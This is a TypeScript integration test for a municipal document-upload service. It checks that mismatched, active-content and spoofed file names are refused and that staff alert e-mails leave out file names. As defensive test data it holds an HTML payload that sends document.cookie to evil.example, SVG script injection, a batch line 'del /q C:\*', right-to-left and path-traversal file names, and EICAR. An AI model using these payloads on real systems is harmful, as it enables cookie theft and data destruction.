// Names and content agree, whatever the way in (drop API raw and multipart, drop folder, batch
// manifest), and the staff mailbox's alerts name no file. Real clamd, PostgreSQL and SMTP; the
// clerk is a matrix-js-sdk client.
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { createToken } from "../../appservice/tokens/tokens.ts";
import { EICAR } from "../support/clamd.ts";
import { startStack, waitFor, type Stack } from "../support/harness.ts";
import type { TestUser } from "../support/matrix.ts";
import { pdf, zip } from "../support/files.ts";

const HTML = Buffer.from("<!DOCTYPE html>\n<html><body><p>Rechnung</p><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>\n");
const SVG = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>\n');
const TEXT = Buffer.from("Sehr geehrte Damen und Herren,\nanbei die Rechnung.\n");
const BATCH_SCRIPT = Buffer.from("@echo off\r\ndel /q C:\\*\r\n");

interface Result {
  status: number;
  body: { id?: string; errcode?: string; error?: string; state?: string };
}

describe("names and content agree", () => {
  let stack: Stack;
  let clerk: TestUser;
  let roomId: string;
  let dropToken: string;
  let dropDir: string;

  before(async () => {
    stack = await startStack({
      name: "names-content",
      configure: (c) => {
        dropDir = join(String((c.documents as { stagingDir: string }).stagingDir), "..", "drop");
        c.documents = { ...(c.documents as Record<string, unknown>), dropFolder: { enabled: true, dir: dropDir, stableSeconds: 1, pollSeconds: 1 } };
      },
    });
    clerk = await stack.user("clerk");
    await clerk.start();
    const res = await stack.api("POST", "/api/v1/organisations", { id: "musterstadt", name: "Gemeinde Musterstadt", clerks: [{ matrixId: clerk.userId, email: "anna@musterstadt.example" }] });
    assert.equal(res.status, 201, JSON.stringify(res.body));
    roomId = await stack.roomOf("musterstadt");
    await clerk.waitForInvite(roomId);
    await clerk.join(roomId);
    dropToken = await createToken(stack.kuvert!.db, "levy-system", ["drop"], "test", ["musterstadt"]);
  });
  after(() => stack.stop());

  const documentCount = async () => Number((await stack.kuvert!.db.query<{ n: string }>("SELECT count(*) AS n FROM documents")).rows[0]!.n);
  const staged = () => readdirSync(stack.config.documents.stagingDir);
  const raw = async (filename: string, content: Buffer): Promise<Result> => {
    const res = await fetch(`${stack.publicUrl}/api/v1/organisations/musterstadt/documents?filename=${encodeURIComponent(filename)}`, {
      method: "POST",
      headers: { authorization: `Bearer ${dropToken}`, "content-type": "application/octet-stream" },
      body: new Uint8Array(content),
    });
    return { status: res.status, body: (await res.json()) as Result["body"] };
  };
  const multipart = async (filename: string, content: Buffer): Promise<Result> => {
    const form = new FormData();
    form.set("kind", "Rechnung");
    form.set("file", new Blob([new Uint8Array(content)]), filename);
    const res = await fetch(`${stack.publicUrl}/api/v1/organisations/musterstadt/documents`, { method: "POST", headers: { authorization: `Bearer ${dropToken}` }, body: form });
    return { status: res.status, body: (await res.json()) as Result["body"] };
  };

  it("refuses each name-and-content attack from the report, raw and multipart alike, and keeps nothing", async () => {
    const before = await documentCount();
    const cases: [string, string, Buffer, number, string][] = [
      ["text named as a batch file behind .pdf", "Rechnung.pdf.bat", TEXT, 415, "KUVERT_TYPE_MISMATCH"],
      ["a PDF named as a program", "setup.exe", pdf("setup"), 415, "KUVERT_TYPE_MISMATCH"],
      ["text named as a PDF", "Rechnung.pdf", TEXT, 415, "KUVERT_TYPE_MISMATCH"],
      ["a ZIP named as a Word file", "Vertrag.docx", await zip({ "a.txt": "a" }), 415, "KUVERT_TYPE_MISMATCH"],
      ["a PDF without an extension", "Bescheid", pdf("no ext"), 415, "KUVERT_TYPE_MISMATCH"],
      ["HTML with a script", "Rechnung.html", HTML, 415, "KUVERT_ACTIVE_CONTENT"],
      ["HTML with a script named as text", "Rechnung.txt", HTML, 415, "KUVERT_ACTIVE_CONTENT"],
      ["SVG with a script", "logo.svg", SVG, 415, "KUVERT_ACTIVE_CONTENT"],
      ["a batch script named as text", "liesmich.txt", BATCH_SCRIPT, 415, "KUVERT_ACTIVE_CONTENT"],
      ["a Windows device name", "CON", pdf("con"), 400, "KUVERT_INVALID_FILENAME"],
      ["a device name with an extension", "aux.pdf", pdf("aux"), 400, "KUVERT_INVALID_FILENAME"],
      ["a trailing dot", "rechnung.pdf.", pdf("dot"), 400, "KUVERT_INVALID_FILENAME"],
      ["a zero-width space", "rech\u200Bnung.pdf", pdf("zwsp"), 400, "KUVERT_INVALID_FILENAME"],
      ["a byte order mark", "\uFEFFrechnung.pdf", pdf("bom"), 400, "KUVERT_INVALID_FILENAME"],
      ["a right-to-left isolate", "rechnung\u2067fdp.exe", pdf("bidi"), 400, "KUVERT_INVALID_FILENAME"],
      ["a path", "../../etc/x.pdf", pdf("path"), 400, "KUVERT_INVALID_FILENAME"],
    ];
    for (const [what, filename, content, status, errcode] of cases) {
      for (const [way, send] of [
        ["raw", raw],
        ["multipart", multipart],
      ] as const) {
        const res = await send(filename, content);
        assert.equal(res.status, status, `${what} (${way}): ${JSON.stringify(res.body)}`);
        assert.equal(res.body.errcode, errcode, `${what} (${way})`);
        assert.ok((res.body.error ?? "").length > 20, `${what} (${way}) comes with a sentence`);
      }
    }
    assert.equal(await documentCount(), before, "no document was recorded");
    assert.deepEqual(staged(), [], "nothing was kept in staging");
    // The rules refuse what disagrees, not everything: names that fit their content come in.
    for (const [filename, content] of [
      ["Bescheid.PDF", pdf("upper")],
      ["Rundschreiben 2026.txt", TEXT],
      ["Anlagen.zip", await zip({ "a.txt": "a" })],
    ] as const) {
      const res = await multipart(filename, content);
      assert.equal(res.status, 202, `${filename}: ${JSON.stringify(res.body)}`);
    }
  });

  it("refuses the same names in the drop folder: moved to unroutable/ with the code", async () => {
    const folder = join(dropDir, "musterstadt");
    mkdirSync(folder, { recursive: true });
    const files: [string, Buffer, string][] = [
      ["Rechnung.pdf.bat", TEXT, "KUVERT_TYPE_MISMATCH"],
      ["aux.pdf", pdf("aux"), "KUVERT_INVALID_FILENAME"],
      ["Rechnung.html", HTML, "KUVERT_ACTIVE_CONTENT"],
      ["rech\u200Bnung.pdf", pdf("zwsp"), "KUVERT_INVALID_FILENAME"],
    ];
    for (const [name, content] of files) writeFileSync(join(folder, name), content);
    for (const [name, content, errcode] of files) {
      const reason = join(dropDir, "unroutable", "musterstadt", `${name}.reason.txt`);
      await waitFor(`${name} to be moved to unroutable/`, () => existsSync(reason), 30_000);
      assert.match(readFileSync(reason, "utf8"), new RegExp(errcode));
      assert.deepEqual(readFileSync(join(dropDir, "unroutable", "musterstadt", name)), content, "kept as it was");
    }
  });

  it("refuses the same names in a batch manifest, entry by entry", async () => {
    const body = await zip({
      "manifest.csv": "file,organisation\nletters/setup.exe,musterstadt\nletters/aux.pdf,musterstadt\nletters/Rechnung.pdf.bat,musterstadt\nletters/ok.pdf,musterstadt\n",
      "letters/setup.exe": pdf("setup"),
      "letters/aux.pdf": pdf("aux"),
      "letters/Rechnung.pdf.bat": TEXT,
      "letters/ok.pdf": pdf("ok"),
    });
    const res = await stack.api<{ id: string }>("POST", "/api/v1/batches", body, { contentType: "application/zip" });
    assert.equal(res.status, 202, JSON.stringify(res.body));
    let s: { finished: boolean; entries: { file: string; errcode: string | null; documentId: string | null }[] } = { finished: false, entries: [] };
    await waitFor("the batch to finish", async () => (s = (await stack.api<typeof s>("GET", `/api/v1/batches/${res.body.id}`)).body).finished, 60_000);
    assert.deepEqual(
      s.entries.map((e) => [e.file, e.errcode]),
      [
        ["letters/setup.exe", "KUVERT_TYPE_MISMATCH"],
        ["letters/aux.pdf", "KUVERT_INVALID_FILENAME"],
        ["letters/Rechnung.pdf.bat", "KUVERT_TYPE_MISMATCH"],
        ["letters/ok.pdf", null],
      ],
    );
  });

  it("staff alert e-mails name no file: what happened, the document id, the organisation, the reason", async () => {
    const staffMails = () => stack.smtp.messages.filter((m) => m.to && "text" in m.to && m.to.text === "staff@body.example");
    const secretName = "Pfaendung-Erika-Mustermann-1970-03-12";
    const res = await raw(`${secretName}.txt`, EICAR);
    assert.equal(res.status, 202, JSON.stringify(res.body));
    await waitFor("the rejection alert e-mail", () => staffMails().some((m) => (m.text ?? "").includes(res.body.id!)), 30_000);
    // A clerk's clean upload: the staff mailbox hears of it, again without its name.
    const before = staffMails().length;
    const upload = await clerk.client.uploadContent(new Uint8Array(pdf("Antrag")), { name: `${secretName}-Antrag.pdf`, type: "application/pdf" });
    await clerk.client.sendMessage(roomId, { msgtype: "m.file", body: `${secretName}-Antrag.pdf`, filename: `${secretName}-Antrag.pdf`, url: upload.content_uri, info: { mimetype: "application/pdf" } } as never);
    await waitFor("the staff mailbox e-mail about the upload", () => staffMails().length > before, 30_000);
    const mails = staffMails();
    const rejection = mails.find((m) => (m.text ?? "").includes(res.body.id!))!;
    assert.match(rejection.text ?? "", /Gemeinde Musterstadt|musterstadt/);
    assert.match(rejection.text ?? "", /Eicar/i, "the reason: the signature found");
    for (const m of mails) {
      const whole = [m.subject ?? "", m.text ?? "", typeof m.html === "string" ? m.html : "", ...m.attachments.map((a) => a.filename ?? "")].join("\n");
      assert.ok(!whole.includes(secretName), `no file name in ${JSON.stringify(m.subject)}: ${whole}`);
      assert.equal(m.attachments.length, 0);
    }
    // The staff room, which only staff can read, still names the file.
    await stack.staff.start();
    const staffRoomId = stack.kuvert!.services.staffRoom.roomId!;
    await stack.staff.waitForInvite(staffRoomId);
    await stack.staff.join(staffRoomId);
    await stack.staff.waitForEvent(staffRoomId, "the alert naming the file", (e) => String(e.getContent().body).includes(secretName));
  });
});
